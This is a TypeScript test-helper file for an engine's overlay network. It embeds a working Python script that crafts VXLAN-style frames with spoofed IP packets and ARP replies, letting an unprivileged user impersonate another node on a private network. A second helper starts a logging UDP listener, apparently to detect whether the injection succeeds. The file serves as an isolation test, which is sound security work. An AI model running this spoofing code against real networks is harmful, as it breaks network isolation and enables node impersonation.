/** Attacks on the private network of a copy, by an ordinary user of this computer or an unprivileged process on a node. */

/** Frames for the network that copies' nodes span over the engine's, sent with an ordinary UDP socket. */
const attack = `
import socket, struct, sys
outer, victim, other, device = sys.argv[1:5]
number = lambda text: bytes(int(part) for part in text.split("."))
hardware = lambda text: b"\\x02\\xe2" + number(text)
mine = b"\\x02\\xaa\\xaa\\xaa\\xaa\\xaa"
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff
data = b"through the tunnel"
udp = struct.pack("!HHHH", 5000, 7777, 8 + len(data), 0) + data
head = lambda sum: struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, sum, number(other), number(victim))
frames = [hardware(victim) + mine + b"\\x08\\x00" + head(checksum(head(0))) + udp]
frames += [to + mine + b"\\x08\\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mine + number(other) + target + number(victim)
           for operation in (1, 2) for to, target in ((hardware(victim), hardware(victim)), (b"\\xff" * 6, b"\\0" * 6))]
def socket_from(port):
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        made.bind(("", port))
    except OSError:
        pass
    return made
for each in (socket_from(0), socket_from(701)):
    for frame in frames * 5:
        each.sendto(struct.pack("!II", 0x08000000, 1 << 8) + frame, (outer, 14789))
if device:
    direct = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    direct.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
    for _ in range(5):
        try:
            direct.sendto(b"around the tunnel", (victim, 7777))
        except OSError:
            pass
print("sent")
`;

export interface OverlayAttack {
  /** The engine's address of the node. */
  readonly outer: string;
  /** Its private address, and that of another node, whose place the attacker wants. */
  readonly victim: string;
  readonly other: string;
  /** This computer's device of the engine's network; on a node, none. */
  readonly device: string;
}

/** A command that sends everything, as the user whom it is run by. It prints "sent". */
export const attackCommand = ({
  outer,
  victim,
  other,
  device,
}: OverlayAttack): readonly string[] => ["python3", "-c", attack, outer, victim, other, device];

/** A script for a node that starts a service on its private address alone, which notes each request in a file. */
export const serviceScript = (address: string, file: string): string => `
systemd-run --quiet --unit=attacked python3 -uc '
import socket
service = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
service.bind(("${address}", 7777))
while True:
    open("${file}", "ab").write(service.recv(100) + b"\\n")
'
until ss -Hlun "sport = 7777" | grep -q 7777; do sleep 0.1; done
: >${file}`;
